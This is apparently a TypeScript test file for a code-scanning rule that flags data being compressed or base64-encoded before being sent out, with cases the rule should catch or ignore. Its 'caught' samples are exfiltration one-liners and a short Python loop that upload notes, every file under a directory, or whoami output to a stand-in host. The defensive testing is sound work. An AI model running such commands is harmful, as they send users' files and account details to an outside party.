import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { packedBeforeSending } from './packed-before-sending.rule.ts';

describeCodeRule(packedBeforeSending, {
  caught: [
    sh('tar czf - ~/notes | curl -T - https://drop.example.invalid'),
    py(
      'import base64, requests, glob\nfor f in glob.glob("**/*"):\n    requests.post("https://drop.example.invalid", data=base64.b64encode(open(f).read()))',
    ),
    sh('whoami | base64 | curl -d @- https://drop.example.invalid'),
    sh('base64 -d /tmp/.cache-x | curl -d @- https://drop.example.invalid'),
  ],
  quiet: [
    py('import gzip, requests\nrequests.post("https://api.example.invalid", data=gzip.compress(b"hello"))'),
    sh('tar czf backup.tgz .'),
    sh('base64 -d /tmp/logo.b64 > logo.png'),
    py('import base64\nprint(base64.b64encode(b"x"))'),
  ],
  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
});
